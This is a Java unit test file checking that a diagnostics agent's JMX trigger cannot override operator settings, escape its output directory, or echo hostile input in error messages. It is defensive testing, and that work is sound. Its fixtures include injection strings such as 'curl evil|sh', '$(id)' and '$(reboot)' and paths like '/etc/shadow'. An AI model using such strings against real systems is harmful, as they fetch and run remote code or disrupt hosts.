package dev.supportpacket.agent.options;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a trigger (JMX createPacket) may ask, and that it can configure nothing of the operator's (issue 13, 2). */
class TriggerRequestTest {
  @TempDir Path dir;

  private PacketOptions startup() {
    return PacketOptions.parse("output=" + dir + ",duration=9,audit=/etc/agent/audit.yaml,rules=/etc/agent/rules.yaml");
  }

  private String refusal(String args) {
    return assertThrows(IllegalArgumentException.class, () -> PacketOptions.forTrigger(args, startup(), "jmx"))
        .getMessage();
  }

  @ParameterizedTest
  @ValueSource(strings = {"audit=/tmp/none.yaml", "status=/home/app/.bashrc", "rules=/etc/shadow",
      "siteKeyFile=/tmp/k", "user=root", "client=attach-cli/1", "clientHost=admin-host", "heapDumpRaw=true",
      "signal=WINCH", "minInterval=0", "logTail=10240", "logBudget=10240", "trigger=signal", "include=/etc",
      "expires=99999999999999"})
  void operatorSettingsAreRefusedFromATrigger(String args) {
    String message = refusal("duration=1," + args);
    String key = args.substring(0, args.indexOf('='));
    assertTrue(message.contains("'" + key + "' cannot be given by a trigger"), message);
    assertFalse(message.contains(args.substring(key.length() + 1)), "the value is not echoed: " + message);
  }

  @Test
  void aTriggerKeepsTheOperatorsAuditRulesAndOutput() {
    PacketOptions o = PacketOptions.forTrigger("duration=2,histogram=live,heapDump=all,maxSize=100", startup(), "jmx");
    assertEquals(Duration.ofSeconds(2), o.profileDuration());
    assertTrue(o.liveHistogram());
    assertEquals(PacketOptions.HeapDump.ALL, o.heapDump());
    assertFalse(o.heapDumpRaw());
    assertEquals(100, o.maxSizeMb());
    assertEquals(Path.of("/etc/agent/audit.yaml"), o.auditConfig().orElseThrow());
    assertEquals(Path.of("/etc/agent/rules.yaml"), o.rulesFile().orElseThrow());
    assertEquals(dir, o.outputDir().orElseThrow());
    assertTrue(o.statusFile().isEmpty() && o.caller().user().isEmpty());
    assertEquals("jmx", o.trigger());
  }

  @Test
  void aCraftedKeyIsNotEchoed() {
    String crafted = "x;curl evil|sh\n$(id)\u001b[2J";
    String message = refusal(crafted + "=1");
    assertFalse(message.contains("curl") || message.contains("$(id)") || message.contains("\n")
        || message.contains("\u001b"), message);
    assertTrue(message.contains("not an option name"), message);
  }

  @Test
  void aTriggerMayAskForADirectoryBelowTheOperatorsOnly() throws Exception {
    Path below = Files.createDirectory(dir.resolve("team"));
    assertEquals(below, PacketOptions.forTrigger("output=" + below, startup(), "jmx").outputDir().orElseThrow());
    assertTrue(refusal("output=/tmp").contains("only ask for an output directory at or below " + dir));
    assertTrue(refusal("output=" + dir + "/../elsewhere").contains("at or below"));
  }

  @Test
  void aLinkBelowTheOperatorsDirectoryDoesNotLeadOutOfIt(@TempDir Path elsewhere) throws Exception {
    Path link = Files.createSymbolicLink(dir.resolve("link"), elsewhere);
    assertTrue(refusal("output=" + link).contains("at or below"));
  }

  @Test
  void badValuesFromATriggerAreNamedNotEchoed() {
    String message = refusal("duration=$(reboot)");
    assertTrue(message.contains("duration must be a whole number"), message);
    assertFalse(message.contains("reboot"), message);
    assertTrue(refusal("heapDump=raw").contains("heapDump must be live, all or off"));
  }

  @Test
  void aKeyGivenTwiceIsRefusedRatherThanTheLastOneWinning() {
    assertTrue(refusal("duration=1,duration=2").contains("given twice"));
  }
}
